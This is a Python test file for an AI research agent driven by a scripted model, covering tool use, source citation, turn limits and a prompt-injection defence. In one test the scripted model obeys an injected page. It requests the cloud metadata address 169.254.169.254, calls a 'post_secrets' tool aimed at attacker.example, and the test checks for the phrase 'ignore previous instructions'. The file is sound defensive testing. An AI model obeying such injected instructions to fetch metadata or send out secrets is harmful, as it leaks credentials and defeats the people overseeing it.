"""The research run driven by a scripted model through the Agents SDK's own Model interface.

The pages come from the loopback fixture site (allow-listed); the knowledge base is the
in-memory fakes (tests/fakes: real chunking, hashed-word vectors); the model is scripted.
Each case ends as docs/researcher.md says.
"""

from __future__ import annotations

import json
from datetime import date

import pytest

from alex.domain.errors import ResearchFailedError
from alex.research.fetch import FetchPolicy
from alex.research.orchestrator import Researcher, ResearchLimits
from alex.services import Services
from tests.pagesite import PageSite
from tests.scripted_model import Reply, ScriptedModel, answer, chat_model, text, tool_call

TODAY = date(2026, 11, 26)


@pytest.fixture
def services(fake_services: Services) -> Services:
    return fake_services


def researcher(
    services: Services, site: PageSite, model: ScriptedModel, *, tools: bool = True, turns: int = 4
) -> Researcher:
    return Researcher(
        chat=chat_model(model, tools=tools),
        ingest=services.ingest,
        search_knowledge=lambda query: services.search.search(query, 3, "hybrid", {}),
        policy=FetchPolicy(allow_hosts=[site.host_port]),
        limits=ResearchLimits(max_turns=turns, timeout_seconds=60),
        today=lambda: TODAY,
    )


def stored(services: Services) -> int:
    return services.documents.list_documents(10, 0, {})[1]


def test_a_model_that_calls_a_tool_then_answers_stores_one_cited_analysis(
    services: Services, site: PageSite
) -> None:
    results, news = site.url("/quarterly-results.html"), site.url("/market-news.html")
    model = ScriptedModel(
        [tool_call("fetch_page", url=news), answer(sources=[{"url": news, "title": "x"}])]
    )
    steps: list[tuple[str, str]] = []
    result = researcher(services, site, model).run(
        "Corvane Q3", [results], lambda step, detail: steps.append((step, detail))
    )

    assert [step for step, _ in steps] == ["read", "recall", "write", "store", "done"]
    first, second = model.calls
    assert first.tools == ["fetch_page", "search_knowledge"]
    assert first.schema is not None and set(first.schema["required"]) >= {"title", "sources"}
    assert "<page url=" in json.dumps(first.input)
    # The tool's answer (the fetched page, fenced as data) went back to the model.
    assert '<page url=\\"' + news in json.dumps(second.input)
    assert [s.url for s in result.analysis.sources] == [news]
    assert result.analysis.sources[0].title != "x"  # the title the page really has
    assert result.analysis.topic == "Corvane Q3" and result.analysis.model == "scripted"
    assert stored(services) == 1
    document = services.documents.get(result.document_id)
    assert document.source_id == "research/corvane-q3/2026-11-26"
    assert document.metadata["kind"] == "research" and document.metadata["sources"] == [news]
    assert "## Key points" in document.text and news in document.text
    hits = services.search.search("Corvane revenue guidance", 3, "hybrid", {"kind": "research"})
    assert hits and hits[0].document_id == result.document_id


def test_a_model_that_never_calls_a_tool_writes_from_the_pages_it_was_given(
    services: Services, site: PageSite
) -> None:
    url = site.url("/quarterly-results.html")
    model = ScriptedModel([answer(sources=[{"url": url, "title": "Q3"}])])
    result = researcher(services, site, model, tools=False).run("Corvane", [url])
    (call,) = model.calls
    assert call.tools == []
    assert result.status == "created" and stored(services) == 1
    # Figures the pages do not contain are listed; these are all on the page.
    assert result.unverified_figures == []


def test_a_retried_run_on_the_same_day_replaces_its_document(
    services: Services, site: PageSite
) -> None:
    url = site.url("/quarterly-results.html")
    first = researcher(
        services, site, ScriptedModel([answer(sources=[{"url": url, "title": "a"}])])
    ).run("Corvane", [url])
    second = researcher(
        services,
        site,
        ScriptedModel([answer(summary="Revised.", sources=[{"url": url, "title": "a"}])]),
    ).run("  corvane ", [url])
    assert (second.document_id, second.status) == (first.document_id, "updated")
    assert stored(services) == 1


def test_without_a_topic_the_planner_chooses_one(services: Services, site: PageSite) -> None:
    url = site.url("/market-news.html")
    model = ScriptedModel(
        [text(json.dumps({"topic": "Rate decision"})), answer(sources=[{"url": url, "title": ""}])]
    )
    result = researcher(services, site, model).run(None, [url])
    planner_call, _ = model.calls
    assert planner_call.tools == [] and planner_call.schema is not None
    assert result.analysis.topic == "Rate decision"


@pytest.mark.parametrize(
    ("reply", "message"),
    [
        (text("Here is my analysis: revenue rose."), "not a valid analysis"),
        (answer(as_of="last Tuesday"), "not a valid analysis"),
        (text(json.dumps({"title": "only a title"})), "not a valid analysis"),
    ],
)
def test_an_invalid_answer_fails_and_stores_nothing(
    services: Services, site: PageSite, reply: Reply, message: str
) -> None:
    url = site.url("/quarterly-results.html")
    with pytest.raises(ResearchFailedError, match=message):
        researcher(services, site, ScriptedModel([reply])).run("Corvane", [url])
    assert stored(services) == 0


def test_a_run_that_exceeds_its_turn_limit_fails_and_stores_nothing(
    services: Services, site: PageSite
) -> None:
    url = site.url("/quarterly-results.html")
    loop = tool_call("search_knowledge", query="Corvane")
    model = ScriptedModel([loop] * 10)
    with pytest.raises(ResearchFailedError, match="did not finish within 3 turns"):
        researcher(services, site, model, turns=3).run("Corvane", [url])
    assert len(model.calls) == 3 and stored(services) == 0


def test_sources_the_run_never_read_are_dropped_and_none_left_fails(
    services: Services, site: PageSite
) -> None:
    url = site.url("/quarterly-results.html")
    invented = "https://example.com/made-up"
    model = ScriptedModel(
        [answer(sources=[{"url": invented, "title": "?"}, {"url": url, "title": "Q3"}])]
    )
    result = researcher(services, site, model).run("Corvane", [url])
    assert [s.url for s in result.analysis.sources] == [url]

    model = ScriptedModel([answer(sources=[{"url": invented, "title": "?"}])])
    with pytest.raises(ResearchFailedError, match="cited no page that was read"):
        researcher(services, site, model).run("Other topic", [url])
    assert stored(services) == 1


def test_a_model_obeying_an_injected_instruction_cannot_reach_metadata_or_other_tools(
    services: Services, site: PageSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The prompt-injection page asks for the API key and the metadata address. A model that
    obeys gets a refusal from fetch_page; a call to a tool that does not exist ends the run
    with nothing stored; no secret is ever in what the model is sent."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-never-sent-0123456789")
    url = site.url("/prompt-injection.html")
    metadata_url = "http://169.254.169.254/latest/meta-data/"
    model = ScriptedModel(
        [tool_call("fetch_page", url=metadata_url), answer(sources=[{"url": url, "title": ""}])]
    )
    result = researcher(services, site, model).run("Corvane", [url])
    refusal = json.dumps(model.calls[1].input)
    assert "169.254.169.254" in refusal and "refused" in refusal.lower()
    assert [s.url for s in result.analysis.sources] == [url]
    assert all(request.path != "/latest/meta-data/" for request in site.requests)

    model = ScriptedModel([tool_call("post_secrets", to="http://attacker.example/collect")])
    with pytest.raises(ResearchFailedError):
        researcher(services, site, model).run("Another", [url])
    sent = json.dumps([(c.instructions, c.input) for c in model.calls])
    assert "sk-secret" not in sent and "ignore previous instructions" in sent.lower()
    assert stored(services) == 1


def test_no_readable_source_fails_before_any_model_call(services: Services, site: PageSite) -> None:
    model = ScriptedModel([])
    with pytest.raises(ResearchFailedError, match="No source could be read") as error:
        researcher(services, site, model).run(
            "Corvane", [site.url("/status/500"), "http://10.0.0.1/"]
        )
    assert "10.0.0.1" in error.value.message and model.calls == []
    assert stored(services) == 0


def test_repeated_points_are_kept_once(services: Services, site: PageSite) -> None:
    """Small models repeat themselves: a point said twice, or as a risk too, is kept once."""
    url = site.url("/quarterly-results.html")
    same = "Revenue was $412.6 million."
    model = ScriptedModel(
        [
            answer(
                key_points=[same, " revenue was  $412.6 million.", "Gross margin was 58.4%."],
                risks=[same, "Supply of sensors.", "supply of sensors."],
                sources=[{"url": url, "title": "Q3"}],
            )
        ]
    )
    analysis = researcher(services, site, model).run("Corvane", [url]).analysis
    assert analysis.key_points == [same, "Gross margin was 58.4%."]
    assert analysis.risks == ["Supply of sensors."]
